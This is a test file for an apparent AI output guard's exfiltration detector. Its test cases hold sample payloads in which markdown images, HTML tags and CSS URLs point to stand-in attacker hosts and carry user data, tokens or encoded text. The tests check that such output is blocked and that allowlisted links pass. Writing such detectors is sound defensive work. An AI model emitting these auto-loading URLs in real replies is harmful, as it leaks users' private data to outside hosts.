import { describe, expect, it } from "vitest";
import { createExfiltrationLayer, findUrls } from "../../../src/detectors/exfiltration/index.js";
import { createGuard } from "../../../src/guard/engine.js";
import { GuardSession } from "../../../src/guard/session.js";
import type { Finding } from "../../../src/guard/types.js";
import { resolvePolicy } from "../../../src/policy/load.js";
import { PolicySchema } from "../../../src/policy/schema.js";
import { layerInputFor } from "../../../src/guard/layer-input.js";

const defaults = PolicySchema.parse({ version: 1 }).layers.exfiltration;
const options = { ...defaults, allowedHosts: ["docs.acme.com", "cdn.acme.com"] };

function check(text: string, layer = createExfiltrationLayer(options), session?: GuardSession): Finding[] {
  return (layer.check(layerInputFor(text, { stage: "output", ...(session ? { session } : {}) })) as { findings: Finding[] }).findings;
}

describe("exfiltration layer", () => {
  it("blocks markdown image exfiltration to a non-allowlisted host while links to allowlisted hosts pass", async () => {
    const policy = resolvePolicy({ version: 1, layers: { exfiltration: { allowedHosts: ["docs.acme.com"] } } });
    const guard = createGuard({ policy, layers: [createExfiltrationLayer(policy.policy.layers.exfiltration)], replaceBuiltinLayers: true });
    const attack = await guard.check({ text: "Summary done. ![loading](https://evil.example.net/log?q=the%20user%20said%20their%20salary%20is%2090k)", stage: "output", role: "assistant" });
    expect(attack.action).toBe("block");
    expect(attack.categories).toContain("exfiltration");
    const benign = await guard.check({ text: "See [the guide](https://docs.acme.com/setup?section=install) and ![diagram](https://docs.acme.com/img/arch.png).", stage: "output", role: "assistant" });
    expect(benign.action).toBe("allow");
  });

  it("finds auto-loading constructs of every kind outside the allowlist", () => {
    const cases = [
      '<img src="https://attacker.io/p.gif?d=1">',
      "<img src=//attacker.io/p.gif>",
      '<iframe src="https://attacker.io/frame"></iframe>',
      '<script src="https://attacker.io/x.js"></script>',
      '<link rel="stylesheet" href="https://attacker.io/s.css">',
      '<div style="background-image: url(https://attacker.io/bg.png)">',
      "<style>@import 'https://attacker.io/s.css';</style>",
      '<meta http-equiv="refresh" content="0; url=https://attacker.io/">',
      '<img srcset="https://cdn.acme.com/a.png 1x, https://attacker.io/b.png 2x">',
      "![x][logo]\n\n[logo]: https://attacker.io/logo.png",
      "![chart]( <https://attacker.io/c.png> \"title\" )",
      "![still streaming](https://attacker.io/c.png?d=abc",
    ];
    for (const text of cases) {
      const findings = check(text);
      expect(findings.length, text).toBeGreaterThanOrEqual(1);
      expect(findings[0]!.score, text).toBeGreaterThanOrEqual(0.8);
    }
  });

  it("catches data in link URLs: secrets, canaries, personal data, random payloads", () => {
    const session = new GuardSession();
    const canary = session.newCanary();
    const layer = createExfiltrationLayer(options);
    expect(check("[click](https://attacker.io/c?k=ghp_R4nd0mT0k3nV4lu3Xy7Zq2Wk9Lm3Np5Bc8Df)", layer)[0]).toMatchObject({ ruleId: "exfiltration.url-carries-secret", score: 0.95 });
    expect(check(`[click](https://docs.acme.com/?ref=${encodeURIComponent(Buffer.from(canary).toString("base64"))})`, layer, session)[0]).toMatchObject({ ruleId: "exfiltration.url-carries-canary" });
    expect(check("Visit https://attacker.io/track?email=jane.roe%40acme-mail.io", layer)[0]).toMatchObject({ ruleId: "exfiltration.url-carries-pii" });
    expect(check("[more](https://attacker.io/p/aGVsbG8gd29ybGQsIHRoZSB1c2VyIHNhaWQgMTIzNA)", layer)[0]).toMatchObject({ ruleId: "exfiltration.link-carries-data" });
  });

  it("lets ordinary output through: plain external links, relative images, allowlisted subdomains, code", () => {
    const benign = [
      "Read more at https://en.wikipedia.org/wiki/Prompt_injection or [MDN](https://developer.mozilla.org/en-US/docs/Web/HTML).",
      "![logo](/static/logo.png) and ![icon](images/icon.svg)",
      "![chart](https://cdn.acme.com/charts/q3.png)",
      "Use `<img src={url}>` in JSX, where url comes from props.",
      "a < b and c > d; arrays[0](x) is a call",
      "The RFC is at https://www.rfc-editor.org/rfc/rfc3986#section-3.",
    ];
    for (const text of benign) expect(check(text), text).toEqual([]);
  });

  it("links outside the allowlist are findings when the policy treats links like images", () => {
    const strict = createExfiltrationLayer({ ...options, links: "allowlist" });
    expect(check("[docs](https://elsewhere.org/page)", strict)).toHaveLength(1);
    expect(check("[docs](https://docs.acme.com/page)", strict)).toHaveLength(0);
  });

  it("an allowlist of * allows every host but still stops secrets in URLs", () => {
    const open = createExfiltrationLayer({ ...options, allowedHosts: ["*"] });
    expect(check("![x](https://anywhere.io/a.png)", open)).toEqual([]);
    expect(check("![x](https://anywhere.io/a.png?t=xoxb-2048301947-4820138475625-Xk9Lm2Np4Qr7St1Vw3Yz6Bc)", open)).toHaveLength(1);
  });

  it("extracts URLs in linear time from floods of unclosed constructs", () => {
    const flood = "<a ".repeat(20000) + "![".repeat(20000) + "[x](".repeat(10000) + "url(".repeat(10000);
    expect(Array.isArray(findUrls(flood))).toBe(true);
  });
});
